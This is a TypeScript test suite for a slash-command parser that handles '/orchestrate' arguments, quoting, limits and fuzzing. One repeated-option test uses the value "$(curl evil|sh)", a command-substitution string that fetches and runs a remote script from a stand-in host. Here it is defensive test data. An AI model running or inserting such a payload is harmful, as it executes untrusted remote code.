import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseSlashCommand } from './parse-slash-command';

const parse = (body: string, staticArgs?: string) =>
  parseSlashCommand(body, {
    command: 'orchestrate',
    ...(staticArgs === undefined ? {} : { staticArgs }),
  });

describe('parseSlashCommand', () => {
  it('finds the command on the first non-blank line, trimming blanks and CRs', () => {
    const result = parse('\r\n   \n   /orchestrate #276 prompt=triage\r\nthanks!\n/orchestrate 9');
    expect(result).toEqual({
      ok: true,
      value: {
        command: 'orchestrate',
        line: '/orchestrate #276 prompt=triage',
        positional: ['#276'],
        named: { prompt: 'triage' },
        args: [
          { kind: 'positional', value: '#276', column: 17 },
          { kind: 'named', name: 'prompt', value: 'triage', column: 22 },
        ],
      },
    });
  });

  it('accepts the command name with or without its slash', () => {
    expect(parseSlashCommand('/deploy now', { command: '/deploy' }).ok).toBe(true);
    expect(parseSlashCommand('/deploy now', { command: 'deploy' }).ok).toBe(true);
  });

  it.each([
    ['/orchestrated #1', 'not_a_command'],
    ['/Orchestrate #1', 'not_a_command'],
    ['please /orchestrate #1', 'not_a_command'],
    ['hello\n/orchestrate #1', 'not_a_command'],
    ['', 'empty'],
    [' \r\n\t\n', 'empty'],
  ])('rejects %j with %s', (body, code) => {
    const result = parse(body);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.code).toBe(code);
  });

  it('names the column of the misplaced word', () => {
    const result = parse('  /orchestrated');
    expect(result).toMatchObject({ ok: false, error: { column: 3 } });
    if (!result.ok) expect(result.error.message).toContain('column 3');
  });

  it('matches the command alone and followed by a tab', () => {
    expect(parse('/orchestrate')).toMatchObject({ ok: true, value: { args: [] } });
    expect(parse('/orchestrate\t#5')).toMatchObject({ ok: true, value: { positional: ['#5'] } });
  });

  it('strips outer quotes and honours escaped quotes and backslashes', () => {
    const result = parse('/orchestrate note="say \\"hi\\" \\\\ now" "two words" a"b c"d');
    expect(result).toMatchObject({
      ok: true,
      value: { named: { note: 'say "hi" \\ now' }, positional: ['two words', 'ab cd'] },
    });
  });

  it.each([
    ['key=', 'key='],
    ['=value', '=value'],
    ['bad.name=x', 'bad.name=x'],
    ['"quoted=name"', 'quoted=name'],
    ['key=""', 'key='],
  ])('treats %s as positional', (token, value) => {
    expect(parse(`/orchestrate ${token}`)).toMatchObject({
      ok: true,
      value: { positional: [value], named: {} },
    });
  });

  it('rejects a repeated option at the column of the second, before looking at its value', () => {
    expect(parse('/orchestrate a=1 a=2')).toEqual({
      ok: false,
      error: {
        code: 'repeated_option',
        column: 18,
        message: 'column 18: option "a" is given more than once (first at column 14)',
      },
    });
    expect(parse('/orchestrate prompt="$(curl evil|sh)" prompt=triage')).toMatchObject({
      ok: false,
      error: { code: 'repeated_option', column: 39 },
    });
  });

  it('rejects a repeated static argument as a configuration problem', () => {
    expect(parse('/orchestrate', 'wave=a wave=b')).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_static_arguments',
        column: null,
        message: 'static arguments: option "wave" is given more than once',
      },
    });
  });

  it('stores odd names as own data, never on the prototype', () => {
    const result = parse('/orchestrate __proto__=x constructor=y');
    expect(result.ok).toBe(true);
    if (result.ok) {
      expect(Object.keys(result.value.named)).toEqual(['__proto__', 'constructor']);
      expect(Object.getPrototypeOf(result.value.named)).toBe(Object.prototype);
    }
  });

  it('prepends static arguments so the comment wins', () => {
    const result = parse('/orchestrate wave=w3 #2', 'wave=wave2 mode=plan');
    expect(result).toMatchObject({
      ok: true,
      value: { named: { wave: 'w3', mode: 'plan' }, positional: ['#2'] },
    });
    if (result.ok)
      expect(result.value.args[0]).toEqual({
        kind: 'named',
        name: 'wave',
        value: 'wave2',
        column: null,
      });
  });

  it('reports broken static arguments as such', () => {
    expect(parse('/orchestrate', 'a="open')).toMatchObject({
      ok: false,
      error: { code: 'invalid_static_arguments' },
    });
  });

  it('reports an unterminated quote at the quote', () => {
    expect(parse('/orchestrate a="x y')).toMatchObject({
      ok: false,
      error: {
        code: 'unterminated_quote',
        column: 16,
        message: 'column 16: unterminated double quote',
      },
    });
  });

  it('allows 50 arguments and refuses the 51st', () => {
    const fifty = Array.from({ length: 50 }, (_, i) => `a${i}`).join(' ');
    expect(parse(`/orchestrate ${fifty}`).ok).toBe(true);
    expect(parse(`/orchestrate ${fifty} extra`)).toMatchObject({
      ok: false,
      error: { code: 'too_many_arguments', column: 13 + fifty.length + 2 },
    });
  });

  it('refuses a command line over 4 KiB, counting UTF-8 bytes', () => {
    expect(parse(`/orchestrate ${'x'.repeat(4096 - 13)}`).ok).toBe(true);
    expect(parse(`/orchestrate ${'é'.repeat(2100)}`)).toMatchObject({
      ok: false,
      error: { code: 'too_long' },
    });
  });

  it('never throws on any string up to 10 KB', () => {
    const alphabet = fc.constantFrom(
      '/',
      'orchestrate',
      ' ',
      '\t',
      '\r',
      '\n',
      '"',
      '\\',
      '=',
      '#',
      'a',
      '1',
      'é',
      '\u202e',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 10_000 }),
          fc.array(alphabet, { maxLength: 2_000 }).map((parts) => parts.join('')),
        ),
        (body) => {
          const result = parse(body);
          expect(typeof result.ok).toBe('boolean');
          if (!result.ok) expect(result.error.message.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('round-trips arguments written with quotes', () => {
    const name = fc.stringMatching(/^[A-Za-z0-9_-]{1,8}$/);
    const value = fc.string({ minLength: 1, maxLength: 20 }).filter((text) => !/[\r\n]/.test(text));
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(name, value), { maxLength: 10, selector: ([k]) => k }),
        (pairs) => {
          const quote = (text: string) => `"${text.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
          const line = `/orchestrate ${pairs.map(([k, v]) => `${k}=${quote(v)}`).join(' ')}`;
          const result = parse(line);
          expect(result.ok).toBe(true);
          if (result.ok) expect(result.value.named).toEqual(Object.fromEntries(pairs));
        },
      ),
    );
  });

  it('rejects every command with a repeated option, at the column of the second', () => {
    const name = fc.stringMatching(/^[A-Za-z0-9_-]{1,8}$/);
    const value = fc.string({ minLength: 1, maxLength: 12 }).filter((text) => !/[\s"]/u.test(text));
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(name, value), { minLength: 1, maxLength: 8, selector: ([k]) => k }),
        fc.nat(),
        fc.nat(),
        value,
        (pairs, pick, offset, again) => {
          const words = pairs.map(([k, v]) => `${k}=${v}`);
          const first = pick % pairs.length;
          const at = first + 1 + (offset % (pairs.length - first));
          words.splice(at, 0, `${pairs[first]?.[0] ?? ''}=${again}`);
          const line = `/orchestrate ${words.join(' ')}`;
          const column = `/orchestrate ${words.slice(0, at).join(' ')} `.length + 1;
          expect(parse(line)).toMatchObject({
            ok: false,
            error: { code: 'repeated_option', column },
          });
        },
      ),
      { seed: 1203, numRuns: 300 },
    );
  });
});
